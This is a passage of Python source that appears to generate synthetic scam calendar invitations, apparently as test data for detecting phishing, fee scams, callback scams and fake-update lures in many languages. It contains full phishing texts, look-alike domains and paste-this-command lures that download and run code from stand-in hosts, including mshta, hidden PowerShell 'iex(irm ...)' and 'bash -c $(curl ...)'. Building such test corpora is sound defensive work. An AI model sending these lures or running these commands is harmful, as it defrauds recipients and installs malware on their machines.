              "ビットコインを以下のアドレスに送金してください。\n{btc}\n支払いがない場合、動画をあなたの連絡先全員に送信します。",
         when=dict(days=(2, 2), hour=(0, 23), dur=15, weekday_only=False)),
    dict(lang="pt", desc="Brazilian Portuguese dating lure moving to WhatsApp", accts=["free"], sname="Bianca",
         tz_lang="pt", summary="Oi lindo, vamos conversar? 😍",
         body="Oi! Vi seu perfil e achei você um gato. Tô sozinha esse fim de semana...\nMe chama no WhatsApp: "
              "+55 11 9{n8}\nBeijos", vars=lambda c, V: {"n8": rstr(c.rng, 8, "0123456789")},
         when=dict(days=(0, 3), hour=(19, 23), dur=60, weekday_only=False)),
])

# =====================================================================================================================
FEE = dict(name="fee-scam", title="Delivery, toll, tax and fine fee scams", clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="Postal-service redelivery fee", accts=["vps", "lookalike", "free"],
         dom={"vps": "usps-redelivery-{slug}.com", "lookalike": "usps-parcelcare.com"}, sname="USPS Delivery",
         vars=lambda c, V: {"url": "https://%s/track?id=US%s" % (pick(c.rng, ["usps-parcelcare.com",
                                                                            "usps.redeliver-%s.top" % c.slug(4),
                                                                            "%s.pages.dev" % c.slug(8)]),
                                                                 c.digits(10))},
         method="PUBLISH?", clients=["booking", "handrolled", "outlook-desktop", "thunderbird", "nextcloud"], summary="Redelivery scheduled - $1.99 fee due (tracking US{num})",
         body="Your package could not be delivered due to an incomplete address. A redelivery slot has been reserved "
              "for {date}. Pay the $1.99 redelivery fee to confirm: {url}", url="{url}",
         brand=dict(logo="USPS", title="Your package is on hold", paras=[
             "We were unable to deliver your package due to an incomplete address.",
             "A redelivery slot has been reserved. Please confirm and pay the $1.99 fee."],
                    button="Confirm redelivery", url="{url}", color="#333366")),
    dict(lang="en", desc="UK postal 'we missed you' redelivery fee", accts=["vps", "lookalike"], tz_lang="en",
         tz="Europe/London", dom={"vps": "royalmail-{slug}.uk", "lookalike": "royalmail-redeliver.co.uk"},
         sname="Royal Mail", vars=lambda c, V: {"url": "https://royalmail-%s.%s/reschedule" % (
             pick(c.rng, ["redeliver", "missedparcel", "fee"]), pick(c.rng, ["co.uk", "com", "info"]))},
         summary="We missed you - pay £1.45 to rebook your delivery",
         body="We tried to deliver your parcel today. To rebook, a £1.45 fee is due.\nRebook: {url}", loc="{url}"),
    dict(lang="en", desc="Unpaid toll balance with late-fee threat", years=(2023, 2026), accts=["vps", "free"],
         dom={"vps": "ezpass-{slug}.com"}, sname="E-ZPass Toll Services",
         vars=lambda c, V: {"url": "https://ezpass%s.%s/pay" % (pick(c.rng, ["ny-toll", "-notice", "collect"]),
                                                                pick(c.rng, ["com", "xin", "top", "vip"]))},
         quirks=["fold-chars"], ct_method="PUBLISH", summary="Unpaid toll balance $6.99 - avoid $50 late fee",
         body="Our records show an outstanding toll of $6.99 on your vehicle. Pay by {date} to avoid a $50 late fee "
              "and possible suspension of your registration.\n{url}", url="{url}"),
    dict(lang="en", desc="Tax-refund lure from a look-alike revenue agency", accts=["vps", "lookalike", "spoof"],
         tz="Europe/London", dom={"vps": "hmrc-refund-{slug}.com", "lookalike": "hmrc-taxrefunds.uk",
                                   "spoof": "hmrc.gov.uk.refund-notice.com"},
         sname="HMRC", vars=lambda c, V: {"url": "https://%s/claim/%s" % (pick(c.rng, ["hmrc-taxrefunds.uk",
                                                                                       "%s.azurewebsites.net" % c.slug(8)]),
                                                                          c.token(12))},
         method="PUBLISH?", summary="You are eligible for a tax refund of £386.12",
         body="After the last annual calculation of your fiscal activity we have determined that you are eligible to "
              "receive a tax refund of £386.12.\nSubmit your claim: {url}\nReference: HMRC-{num}",
         attach=[("{url}", "application/pdf", "HMRC_Refund_{num}.pdf")]),
    dict(lang="en", desc="Parking-violation notice with payment link in CONFERENCE/URL", accts=["vps", "lookalike"],
         clients=["handrolled", "booking", "thunderbird", "apple-mail", "icloud", "sogo", "evolution", "nextcloud"],
         dom={"vps": "parking-notice-{slug}.com", "lookalike": "citypay-parking.com"}, sname="City Parking Services",
         vars=lambda c, V: {"url": "https://citypay-parking.com/pcn/%s" % c.digits(9)},
         method="PUBLISH?", summary="Parking violation PCN {num} - pay within 48 hours",
         body="A parking violation has been recorded for your vehicle. Pay the reduced amount of $35 within 48 hours.",
         url="{url}", conf=[("{url}", "Pay online", "PHONE")]),
    dict(lang="en", desc="Courier customs-duty payment", accts=["vps", "free", "corp"],
         dom={"vps": "fedex-customs-{slug}.com", "corp": COMPROMISED}, sname="FedEx Customs",
         vars=lambda c, V: {"url": c.freehost("fedex")},
         method="PUBLISH?", clients=["booking", "handrolled", "outlook-desktop", "thunderbird", "nextcloud"], summary="Customs duty payment required: $3.29",
         body="Shipment {num} is held at customs. Import duty of $3.29 must be paid before delivery on {date}.\n"
              "Pay now: {url}"),
    dict(lang="de", desc="German parcel customs fee", accts=["vps", "lookalike"],
         dom={"vps": "dhl-zoll-{slug}.de", "lookalike": "dhl-sendungsverfolgung.info"}, sname="DHL Paket",
         charset=["iso-8859-1", "utf-8"],
         vars=lambda c, V: {"url": "https://%s/zoll/%s" % (pick(c.rng, ["dhl-sendungsverfolgung.info",
                                                                        "dhl-%s.web.app" % c.slug(5)]), c.digits(10))},
         method="PUBLISH?", clients=["booking", "handrolled", "outlook-desktop", "thunderbird", "nextcloud"], summary="Ihre Sendung wartet: Zollgebühr 2,99 € offen",
         body="Guten Tag,\nIhre Sendung {num} konnte nicht zugestellt werden, da eine Zollgebühr von 2,99 € aussteht.\n"
              "Bitte begleichen Sie den Betrag bis {date}: {url}", url="{url}",
         brand=dict(logo="DHL", title="Ihre Sendung wartet", paras=[
             "Ihre Sendung konnte nicht zugestellt werden, da eine Zollgebühr von 2,99 € aussteht."],
                    button="Jetzt bezahlen", url="{url}", color="#d40511")),
    dict(lang="fr", desc="French unpaid traffic-fine notice", accts=["vps", "lookalike", "spoof"],
         dom={"vps": "antai-amende-{slug}.fr", "lookalike": "antai-paiement.fr", "spoof": "amendes-gouv.fr"},
         sname="ANTAI", charset=["iso-8859-15", "utf-8"],
         vars=lambda c, V: {"url": "https://antai-paiement.fr/avis/%s" % c.digits(10)},
         summary="Avis de contravention impayé – 35 €",
         body="Madame, Monsieur,\nSauf erreur de notre part, l'avis de contravention n°{num} reste impayé. Le montant "
              "sera majoré à 180 € après le {date}.\nRéglez en ligne : {url}"),
    dict(lang="es", desc="Spanish postal held-parcel fee", accts=["vps", "free"], dom={"vps": "correos-envio-{slug}.es"},
         sname="Correos", charset=["iso-8859-1", "utf-8"], vars=lambda c, V: {"url": c.freehost("correos")},
         summary="Correos: su paquete está retenido – pague 1,79 €",
         body="Estimado cliente:\nSu paquete está retenido en nuestro centro logístico por falta de pago de las tasas "
              "(1,79 €).\nPague aquí para programar la entrega: {url}", loc="{url}"),
    dict(lang="it", desc="Italian postal storage fee", accts=["vps", "lookalike"],
         dom={"vps": "poste-giacenza-{slug}.it", "lookalike": "posteitaliane-spedizioni.com"}, sname="Poste Italiane",
         charset=["iso-8859-1", "utf-8"], vars=lambda c, V: {"url": "https://posteitaliane-spedizioni.com/g/%s" %
                                                                     c.digits(8)},
         summary="La tua spedizione è in giacenza – 1,99 €",
         body="Gentile cliente,\nla tua spedizione è in giacenza presso il nostro centro. Per la riconsegna è richiesto "
              "il pagamento di 1,99 €.\n{url}", url="{url}"),
    dict(lang="nl", desc="Dutch parcel payment request", accts=["vps", "lookalike", "free"],
         dom={"vps": "postnl-betaling-{slug}.nl", "lookalike": "postnl-bezorging.info"}, sname="PostNL",
         vars=lambda c, V: {"url": "https://postnl-bezorging.info/betaal/%s" % c.code(8)},
         summary="Betaal € 1,95 om je pakket te ontvangen",
         body="Beste klant,\nJe pakket kon niet worden bezorgd. Betaal € 1,95 verzendkosten om een nieuw bezorgmoment "
              "te kiezen: {url}"),
    dict(lang="pl", desc="Polish parcel-locker surcharge", accts=["vps", "free"], dom={"vps": "inpost-doplata-{slug}.pl"},
         sname="InPost", charset=["iso-8859-2", "utf-8"], vars=lambda c, V: {"url": c.short()},
         summary="InPost: dopłata 1,99 zł do przesyłki",
         body="Twoja paczka czeka w paczkomacie, ale wymagana jest dopłata 1,99 zł.\nOpłać teraz: {url}",
         loc="Paczkomat {code}"),
    dict(lang="el", desc="Greek postal undelivered-parcel fee", accts=["vps", "free"], dom={"vps": "elta-{slug}.gr"},
         sname="ΕΛΤΑ Courier", charset=["iso-8859-7", "utf-8"], vars=lambda c, V: {"url": c.freehost("elta")},
         summary="Το δέμα σας δεν παραδόθηκε – πληρώστε 1,50 €",
         body="Αγαπητέ πελάτη,\nΤο δέμα σας δεν μπόρεσε να παραδοθεί. Πληρώστε τα τέλη αποστολής 1,50 € για νέα "
              "παράδοση: {url}"),
])

# =====================================================================================================================
def m365_pw(c, V):
    return {"url": pick(c.rng, ["https://%s.blob.core.windows.net/$web/index.html#%s" % (c.slug(10), V["remail"]),
                                "https://%s-%s.azurewebsites.net/?login=%s" % (V["company"].split()[0].lower(),
                                                                              c.slug(5), c.token(10)),
                                "https://login-%s.%s/common/oauth2/" % (c.slug(5), pick(c.rng, ["top", "click", "cfd"]))])}


PHISH = dict(name="credential-phishing", title="Credential phishing under big brands", clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="Password-expiry phish from a compromised tenant or spoofing the recipient's own domain",
         accts=["corp", "spoof", "spoof"], clients=["exchange", "outlook-desktop", "google", "handrolled", "thunderbird"],
         dom={"corp": COMPROMISED + ["brightline-dental.com", "ortiz-insurance.com"], "spoof": "{rdom}"},
         local={"spoof": ["it-support", "helpdesk", "no-reply"]}, sname="IT Service Desk", vars=m365_pw,
         summary="Action required: your password expires today",
         body="Your Microsoft 365 password for {remail} expires today at 5:00 PM.\nTo keep your current password, "
              "confirm it here: {url}\n\nIT Service Desk", online="teams",
         online_url="{url}", when=dict(days=(0, 0), hour=(16, 17), dur=15)),
    dict(lang="en", desc="E-signature 'completed document' lure from a script", accts=["vps", "lookalike", "spoof"],
         clients=["handrolled", "booking", "outlook-desktop", "thunderbird", "emclient"],
         dom={"vps": "docusign-{slug}.net", "lookalike": ["docusign-esign.net", "docu-sign-mail.com"],
              "spoof": "dse-na3.docusign-notify.com"}, sname="DocuSign via {company} HR",
         vars=lambda c, V: {"url": c.freehost("docs")},
         method="PUBLISH?", ct_method="REQUEST", summary="Please DocuSign: Q{q} Payroll Adjustment.pdf",
         pre=lambda c, V: {"q": c.rng.randint(1, 4)},
         body="{company} HR sent you a document to review and sign.\nREVIEW DOCUMENT: {url}\n\nDo not share this "
              "email. It contains a secure link to DocuSign.",
         brand=dict(logo="DocuSign", title="{company} HR sent you a document to review and sign.",
                    paras=["Please review and sign: Payroll Adjustment.pdf",
                           "Do not share this email. It contains a secure link to DocuSign."],
                    button="REVIEW DOCUMENT", url="{url}", color="#ffc820",
                    footer="This message was sent to you by {company} HR who is using the DocuSign Electronic "
                           "Signature Service.")),
    dict(lang="en", desc="Payment-service 'account limited' phish with link only in URL property",
         accts=["vps", "lookalike"], clients=["handrolled", "booking", "icloud", "apple-mail", "thunderbird", "sogo",
                                              "evolution", "nextcloud", "outlook-desktop"],
         dom={"vps": "paypal-resolution-{slug}.com", "lookalike": "paypal-accountreview.com"}, sname="PayPal",
         vars=lambda c, V: {"url": "https://paypal-%s.%s/signin?case=%s" % (
             pick(c.rng, ["resolution", "accountreview", "limited-access"]), pick(c.rng, ["com", "net", "info"]),
             c.code(10))},
         method="PUBLISH?", summary="Your account access has been limited",
         body="We noticed unusual activity on your account. Until you confirm your information, some features are "
              "limited. Case ID: PP-{num}", url="{url}"),
    dict(lang="en", desc="Bank 'unusual sign-in' phish via Google Calendar", accts=["free"], clients=["google"],
         sname="Chase Online Security", vars=lambda c, V: {"url": c.freehost("chase")},
         list=lambda c, V: {"kind": "mailman2", "name": "staff-announce", "domain": "lists.northfield.edu", "title": "Staff announcements", "munge": False, "footer": True, "prefix": True, "resign": False}, to=lambda c, V: [{"name": "", "addr": "staff-announce@lists.northfield.edu"}], summary="Unusual sign-in attempt blocked - verify now",
         body="We blocked a sign-in attempt to your online banking from a new device (Lagos, NG).\nIf this wasn't you, "
              "secure your account: {url}\n\nChase Fraud Prevention", when=dict(days=(0, 0), hour=(0, 23), dur=15,
                                                                               weekday_only=False)),
    dict(lang="en", desc="Document-signing 'remittance advice' from a compromised account with the link in ATTACH",
         accts=["corp"], clients=["thunderbird", "apple-mail", "outlook-desktop", "gmail-web", "yahoo"],
         dom={"corp": COMPROMISED}, vars=lambda c, V: {"url": "https://acrobat.adobe.com.%s.%s/id/urn:aaid:sc:%s" % (
             c.slug(6), pick(c.rng, ["ru", "xyz", "top"]), c.token(16))},
         fwd=dict(orig_clients=["google", "sogo", "thunderbird"], orig_accts=["corp"], style="attach",
                  by=lambda m: {"p": person(m.rng, "en", pick(m.rng, COMPROMISED), style="f.l"), "acct": "corp"},
                  note="Please see attached and action today. Thanks"),
         summary="Adobe Sign: Remittance Advice shared with you",
         body="You have a new document waiting: Remittance_Advice_{num}.pdf", attach=[
             ("{url}", "application/pdf", "Remittance_Advice_{num}.pdf")]),
    dict(lang="en", desc="'Cancelled' meeting notice pointing to a file-share phish in LOCATION", accts=["free", "corp"],
         dom={"corp": COMPROMISED}, vars=lambda c, V: {"url": "https://www.dropbox.com.%s.%s/s/%s" % (
             c.slug(5), pick(c.rng, ["top", "info", "cyou"]), c.token(15))},
         clients=["exchange", "google", "outlook-desktop", "thunderbird", "zimbra", "sogo", "yahoo", "emclient",
                  "apple-mail", "evolution", "proton"],
         summary="RFQ review call", loc="{url}",
         fill=lambda c, ev, V: fake_cancel(c, ev, V, "Call cancelled - the revised RFQ (RFQ_{year}_Revised.zip) is "
                                                     "shared here instead: {url}")),
    dict(lang="en", desc="Benefits-portal identity verification phish", accts=["vps", "lookalike", "spoof"],
         dom={"vps": "ssa-benefits-{slug}.com", "lookalike": "ssa-gov-verify.us", "spoof": "ssa-notices.org"},
         sname="Social Security Administration", vars=lambda c, V: {"url": "https://ssa-gov-verify.us/statement/%s" %
                                                                             c.digits(7)},
         summary="Your annual benefits statement is ready - verify identity",
         body="Your Social Security statement for {year} is available. To view it, verify your identity by {date}:\n"
              "{url}", url="{url}"),
    dict(lang="en", desc="Voicemail notification phish with link in HTML description", accts=["corp", "spoof", "spoof"],
         clients=["outlook-desktop", "exchange", "zimbra", "thunderbird", "emclient"],
         dom={"corp": COMPROMISED, "spoof": "{rdom}"}, local={"spoof": ["voicemail", "pbx", "noreply"]},
         vars=lambda c, V: {"url": "https://%s.r2.dev/vm/%s" % (c.slug(10), c.token(10))},
         summary="New voicemail from +1 (646) 555-01{vm} (00:42)",
         pre=lambda c, V: {"vm": "%02d" % c.rng.randint(0, 99)},
         body="You received a new voicemail. Duration 00:42.",
         alt='<html><body><p>You received a new voicemail.</p><p><b>Duration:</b> 00:42</p><p><a href="{url}">'
             '&#9654; Listen to voicemail</a></p></body></html>'),
    dict(lang="de", desc="German savings-bank pushTAN update phish", accts=["vps", "lookalike"],
         dom={"vps": "sparkasse-tan-{slug}.de", "lookalike": "sparkasse-pushtan-update.de"}, sname="Sparkasse",
         charset=["iso-8859-1", "utf-8"], vars=lambda c, V: {"url": "https://sparkasse-pushtan-update.de/%s" %
                                                                     c.token(8)},
         summary="Aktualisierung Ihres pushTAN-Verfahrens erforderlich",
         body="Sehr geehrte Kundin, sehr geehrter Kunde,\naufgrund neuer Sicherheitsrichtlinien muss Ihr pushTAN-"
              "Verfahren bis zum {date} aktualisiert werden. Andernfalls wird Ihr Online-Banking gesperrt.\n{url}",
         url="{url}"),
    dict(lang="fr", desc="French health-insurance card renewal phish", accts=["vps", "free"],
         dom={"vps": "ameli-carte-{slug}.fr"}, sname="Assurance Maladie", charset=["iso-8859-15", "utf-8"],
         vars=lambda c, V: {"url": c.freehost("ameli")},
         summary="Votre carte Vitale doit être renouvelée",
         body="Bonjour,\nVotre carte Vitale arrive à expiration. Commandez gratuitement votre nouvelle carte avant le "
              "{date} (frais d'envoi 1,49 €) : {url}"),
    dict(lang="es", desc="Spanish bank access-blocked phish", accts=["vps", "lookalike"],
         dom={"vps": "bbva-seguridad-{slug}.es", "lookalike": "bbva-clientes-verificacion.com"}, sname="BBVA",
         charset=["iso-8859-1", "utf-8"], vars=lambda c, V: {"url": "https://bbva-clientes-verificacion.com/%s" %
                                                                     c.token(9)},
         summary="Hemos bloqueado temporalmente su acceso",
         body="Estimado cliente:\nHemos detectado un acceso no autorizado y hemos bloqueado temporalmente su banca "
              "online. Verifique su identidad: {url}", url="{url}"),
    dict(lang="pt", desc="Portuguese bank token-expiry phish", accts=["vps", "free", "corp"],
         dom={"vps": "cgd-token-{slug}.pt", "corp": COMPROMISED}, sname="Caixa Geral de Depósitos",
         charset=["iso-8859-1", "utf-8"], vars=lambda c, V: {"url": c.freehost("cgd")},
         summary="O seu token de segurança expirou",
         body="Caro cliente,\nO seu token de segurança Caixadirecta expirou. Reative-o até {date} para evitar o "
              "bloqueio da conta: {url}", loc="{url}"),
    dict(lang="it", desc="Italian bank suspicious-access phish", accts=["vps", "lookalike"],
         dom={"vps": "intesa-sicurezza-{slug}.it", "lookalike": "intesasanpaolo-verifica.com"}, sname="Intesa Sanpaolo",
         charset=["iso-8859-1", "utf-8"], vars=lambda c, V: {"url": "https://intesasanpaolo-verifica.com/%s" %
                                                                     c.token(9)},
         summary="Accesso sospetto rilevato sul tuo conto",
         body="Gentile cliente,\nabbiamo rilevato un accesso sospetto. Per motivi di sicurezza conferma i tuoi dati "
              "entro 24 ore: {url}", url="{url}"),
    dict(lang="ja", desc="Japanese credit-card usage-confirmation phish", accts=["vps", "lookalike", "free"],
         dom={"vps": "smbc-card-{slug}.jp", "lookalike": "smbc-card-kakunin.com"}, sname="三井住友カード",
         charset=["iso-2022-jp", "utf-8"], vars=lambda c, V: {"url": "https://smbc-card-kakunin.com/%s" % c.token(9)},
         summary="【三井住友カード】ご利用確認のお願い",
         body="いつも三井住友カードをご利用いただきありがとうございます。\nお客様のカードに第三者による不正利用の可能性が"
              "ある取引を検知いたしました。\n以下よりご利用確認をお願いいたします。\n{url}\n※ご確認いただけない場合、"
              "カードのご利用を制限させていただきます。", url="{url}"),
    dict(lang="ru", desc="Russian government-services account confirmation phish", accts=["vps", "free"],
         dom={"vps": "gosuslugi-{slug}.ru"}, sname="Госуслуги", charset=["windows-1251", "koi8-r", "utf-8"],
         vars=lambda c, V: {"url": c.freehost("gu")},
         summary="Госуслуги: подтвердите учётную запись",
         body="Уважаемый пользователь!\nВаша учётная запись будет заблокирована {date}. Для сохранения доступа "
              "подтвердите данные: {url}"),
    dict(lang="he", desc="Hebrew bank details-update phish", accts=["vps", "free"], dom={"vps": "bank-il-{slug}.com"},
         sname="בנק הפועלים", charset=["windows-1255", "utf-8"], vars=lambda c, V: {"url": c.freehost("poalim")},
         summary="נדרש עדכון פרטים בחשבונך",
         body="לקוח יקר,\nלצורך המשך שימוש בשירותי האינטרנט יש לעדכן את פרטיך עד {date}.\nלעדכון: {url}"),
])

# =====================================================================================================================
CALLBACK = dict(name="callback-scam", title="Tech-support and subscription-renewal callback scams (phone only)",
                clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="Antivirus 'renewal invoice' with only a phone number", accts=["free"],
         sname="Norton LifeLock Billing", autofwd={"domains": ["alumni.northfield.edu", "pobox-forward.net", "members.lakeside-rotary.org"]}, summary="Invoice #NL-{num}: subscription renewed ($399.99)",
         body="Dear Customer,\n\nYour Norton 360 Deluxe subscription has been renewed for 3 years. Amount charged: "
              "$399.99.\nIf you did not authorize this charge, call our billing department within 24 hours: "
              "{phone}\n\nThank you for choosing Norton.", vars=lambda c, V: {"phone": c.phone("us")}),
    dict(lang="en", desc="Electronics-support auto-renewal invoice, phone in LOCATION", accts=["free"],
         sname="GeekSquad Billing", summary="Auto-renewal confirmation GS-{num}",
         body="Your annual Geek Squad protection plan has been renewed. Total: $349.99 (tax incl.).\nTo cancel or "
              "request a refund, contact us.", loc="Call {phone}", vars=lambda c, V: {"phone": c.phone("us")}),
    dict(lang="en", desc="Payment-service 'you authorized a payment' callback", accts=["free", "vps"],
         dom={"vps": "pp-billing-{slug}.com"}, sname="Service Billing",
         summary="You authorized a payment of $749.00 to Coinbase",
         body="Transaction ID: {code}{num}\nAmount: $749.00 USD\nMerchant: Coinbase Inc.\n\nDidn't make this "
              "purchase? Call PayPal Support immediately: {phone}", vars=lambda c, V: {"phone": c.phone("us")}),
    dict(lang="en", desc="Security-software 'suspicious activity' callback", accts=["free", "spoof"],
         dom={"spoof": "security-alerts-msft.com"}, sname="Microsoft Defender",
         quirks=["no-uid", "tab-fold"], summary="Security alert: Trojan spyware detected",
         body="Windows Defender detected Trojan:Win32/Emotet on your device. Your personal data may be compromised.\n"
              "Do not shut down your computer. Call Microsoft Support: {phone}",
         vars=lambda c, V: {"phone": c.phone("us")}, alarms=alarms(4, "-PT2M", 5)),
    dict(lang="en", desc="Shopping-membership renewal dispute callback", accts=["free"], sname="Prime Membership",
         summary="Your membership renewed: $139.00", vars=lambda c, V: {"phone": c.phone("us")},
         body="Hello {first},\nyour annual membership has auto-renewed today for $139.00.\nFor questions or to cancel "
              "call {phone} (24/7)."),
    dict(lang="en", desc="Geek-squad style order confirmation with phone in the summary only", accts=["free"],
         summary="Order confirmed - call {phone} to cancel", body="Order #{num}\nItem: Total Tech Support (2 yrs)\n"
                                                                   "Total: $499.99", vars=lambda c, V: {
             "phone": c.phone("us")}),
    dict(lang="de", desc="German 'Microsoft account locked' support-number scam", accts=["free", "vps"],
         dom={"vps": "ms-support-{slug}.de"}, sname="Microsoft Support", charset=["iso-8859-1", "utf-8"],
         summary="Ihr Microsoft-Konto wurde gesperrt", vars=lambda c, V: {"phone": c.phone("de")},
         body="Wir haben verdächtige Aktivitäten in Ihrem Konto festgestellt. Ihr Konto wurde vorübergehend gesperrt.\n"
              "Rufen Sie sofort den Microsoft-Support an: {phone}\nBitte schalten Sie den Computer nicht aus."),
    dict(lang="fr", desc="French antivirus invoice callback", accts=["free"], sname="Service Facturation Norton",
         charset=["iso-8859-15", "utf-8"], vars=lambda c, V: {"phone": c.phone("fr")},
         summary="Facture Norton 360 : 349,99 € prélevés",
         body="Bonjour,\nVotre abonnement Norton 360 a été renouvelé. Montant prélevé : 349,99 €.\nPour annuler et "
              "être remboursé, appelez le {phone}."),
    dict(lang="nl", desc="Dutch antivirus renewal callback", accts=["free"], sname="Norton Klantenservice",
         vars=lambda c, V: {"phone": c.phone("nl")}, summary="Uw abonnement is verlengd – € 299,99",
         body="Beste klant,\nUw Norton-abonnement is automatisch verlengd voor € 299,99.\nNiet akkoord? Bel ons binnen "
              "24 uur: {phone}"),
    dict(lang="hi", desc="Hindi wallet KYC-suspension callback", accts=["free"], sname="Paytm KYC",
         vars=lambda c, V: {"phone": "+91 9" + rstr(c.rng, 9, "0123456789")},
         summary="आपका Paytm KYC निलंबित — तुरंत कॉल करें",
         body="प्रिय ग्राहक,\nआपका KYC आज रात निलंबित कर दिया जाएगा। खाता चालू रखने के लिए तुरंत हमारे KYC अधिकारी "
              "को कॉल करें: {phone}"),
    dict(lang="ar", desc="Arabic subscription-renewal callback", accts=["free"], sname="خدمة العملاء",
         charset=["windows-1256", "utf-8"], vars=lambda c, V: {"phone": c.phone()},
         summary="تم تجديد اشتراكك بقيمة 1,499 درهم",
         body="عزيزي العميل،\nتم تجديد اشتراكك السنوي في برنامج الحماية بقيمة 1,499 درهم.\nلإلغاء العملية واسترداد "
              "المبلغ اتصل بنا على: {phone}"),
    dict(lang="he", desc="Hebrew payment-service charge callback", accts=["free"], sname="PayPal Israel",
         charset=["windows-1255", "utf-8"], vars=lambda c, V: {"phone": c.phone()},
         summary="החשבון שלך חויב ב-2,340 ₪",
         body="שלום,\nבוצע חיוב בסך 2,340 ₪ לטובת Binance.\nלא ביצעת את העסקה? התקשר מיד: {phone}"),
])

# =====================================================================================================================
UPDATE = dict(name="fake-update", title="Fake meeting-client/software updates and paste-this-command lures",
              clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="Meeting-client 'update required' with installer link", accts=["free", "lookalike", "vps"],
         dom={"lookalike": "zoom-meetings-update.com", "vps": "zoomupdate-{slug}.com"},
         vars=lambda c, V: {"url": "https://%s/download/ZoomInstallerFull_%s.msi" % (
             pick(c.rng, ["zoom-meetings-update.com", "us05web-zoom.us.%s.com" % c.slug(4)]), c.digits(4))},
         summary="Weekly sync - Zoom update required before joining",
         body="Hi {first},\n\nLooking forward to our call. Our company now requires Zoom 6.2 or later; older "
              "versions cannot join. Please install the update first:\n{url}\n\nThanks!", loc="Zoom",
         when=dict(days=(1, 4), hour=(9, 16), dur=30)),
    dict(lang="en", desc="'Verify you are human' paste-a-command lure hidden in the HTML description",
         accts=["corp", "vps"], clients=["outlook-desktop", "thunderbird", "emclient", "zimbra", "handrolled",
                                         "booking"], dom={"corp": COMPROMISED, "vps": "meet-verify-{slug}.com"},
         vars=lambda c, V: {"host": "%s.%s" % (c.slug(7), pick(c.rng, ["cloud", "top", "live", "icu"]))},
         summary="Project kickoff - join link inside",
         body="To join the meeting room, verify you are human:\n1. Press Windows+R\n2. Paste the verification code "
              "(Ctrl+V) and press Enter\n\nVerification code:\nmshta https://{host}/v?c={code}",
         alt='<html><body><p>To join the meeting room, verify you are human:</p><ol><li>Press <b>Windows + R</b></li>'
             '<li>Press <b>Ctrl + V</b> and <b>Enter</b></li></ol><p><code>powershell -w h -nop -c "iex(irm https://'
             '{host}/v?c={code})"</code></p></body></html>'),
    dict(lang="en", desc="Browser-update lure to open a shared agenda", accts=["free", "corp"],
         dom={"corp": COMPROMISED}, vars=lambda c, V: {"url": "https://%s.pages.dev/chrome-update.html" % c.slug(9)},
         summary="Agenda - quarterly review (open in updated browser)",
         body="The agenda is in the new Docs viewer, which needs the latest browser build. If it doesn't open, "
              "install the update from {url}", url="{url}"),
    dict(lang="en", desc="Video-conference 'plugin' installer link in CONFERENCE", accts=["vps", "lookalike"],
         clients=["handrolled", "booking"], dom={"vps": "webex-plugin-{slug}.net", "lookalike": "webex-meetingapp.com"},
         sname="Webex Meetings", vars=lambda c, V: {"url": "https://webex-meetingapp.com/plugin/setup_%s.exe" %
                                                           c.digits(5)},
         method="PUBLISH?", summary="Board pre-read session", body="Please install the meeting plugin before the session.",
         conf=[("{url}", "Join (install plugin)", "VIDEO")], url="{url}"),
    dict(lang="en", desc="'Paste into Terminal' macOS command lure", accts=["free", "vps"],
         dom={"vps": "macfix-{slug}.com"}, vars=lambda c, V: {"host": "%s.%s" % (c.slug(6), pick(c.rng, ["sbs", "lol",
                                                                                                         "top"]))},
         summary="Screen-share fix for our call",
         body="Screen sharing fails on macOS until the codec is installed. Open Terminal and paste:\n\n"
              "/bin/bash -c \"$(curl -fsSL https://{host}/install.sh)\"\n\nThen rejoin the meeting.",
         loc="Google Meet"),
    dict(lang="ru", desc="Russian accounting-software patch before a meeting", accts=["corp", "free"],
         dom={"corp": ["buhgalteriya-plus.ru", "stroitrest-nsk.ru"]}, charset=["windows-1251", "utf-8"],
         vars=lambda c, V: {"url": "https://%s.ru/1c_update_%s.exe" % (c.slug(8), c.digits(4))},
         summary="Совещание по отчётности — установите обновление 1С",
         body="Коллеги, перед совещанием обязательно установите обновление платформы 1С, иначе отчёт не откроется:\n"
              "{url}"),
    dict(lang="ko", desc="Korean 'mandatory security plug-in' before a meeting", accts=["free", "vps"],
         dom={"vps": "secure-plugin-{slug}.kr"}, charset=["euc-kr", "utf-8"],
         vars=lambda c, V: {"url": "https://%s.kr/setup/SecurePlugin_%s.exe" % (c.slug(7), c.digits(3))},
         summary="[필수] 보안 플러그인 업데이트 후 회의 참여",
         body="회의 참여 전 보안 플러그인을 반드시 업데이트해 주세요.\n설치 파일: {url}\n설치 후 회의 링크가 활성화됩니다."),
    dict(lang="zh", desc="Chinese meeting-client installer lure", accts=["free", "vps"],
         dom={"vps": "meeting-{slug}.cn"}, charset=["gb2312", "utf-8"],
         vars=lambda c, V: {"url": "https://%s.cn/TencentMeeting_%s.exe" % (c.slug(8), c.digits(4))},
         summary="会议前请安装最新版腾讯会议客户端",
         body="各位同事：\n本次会议需使用最新版腾讯会议客户端，旧版本无法入会。\n请先下载安装：{url}"),
    dict(lang="tr", desc="Turkish meeting-client update lure", accts=["free", "corp"],
         dom={"corp": COMPROMISED}, charset=["iso-8859-9", "utf-8"],
         vars=lambda c, V: {"url": "https://zoom-guncelleme.%s.com/indir" % c.slug(5)},
         summary="Toplantıya katılmadan önce Zoom güncellemesini yükleyin",
         body="Merhaba,\nToplantıya katılabilmek için Zoom'un güncel sürümü gereklidir. Lütfen önce yükleyin:\n{url}"),
    dict(lang="pl", desc="Polish Teams installer lure", accts=["free", "vps", "lookalike"],
         dom={"vps": "teams-aktualizacja-{slug}.pl", "lookalike": "microsoft-teams-pobierz.pl"},
         charset=["iso-8859-2", "utf-8"],
         vars=lambda c, V: {"url": "https://microsoft-teams-pobierz.pl/MSTeamsSetup_x64_%s.exe" % c.digits(4)},
         summary="Aktualizacja Microsoft Teams wymagana – pobierz instalator",
         body="Dzień dobry,\nz powodu zmian bezpieczeństwa spotkanie wymaga nowej wersji Teams. Pobierz instalator:\n{url}",
         url="{url}"),
])

# =====================================================================================================================
def sup_vars(c):
    from .build import lookalike, org_name
    sup = pick(c.rng, ["ridgeline-freight.com", "northwind-packaging.com", "harbor-steelworks.com",
                       "pinecrest-supply.com", "meridian-coatings.com"])
    return {"sup": sup, "sup_look": lookalike(sup, c.rng), "supname": org_name(sup)}


def ceo_name(c, V):
    p = person(c.rng, c.lang)
    return {"ceo": p["name"], "ceo_first": p["first"]}


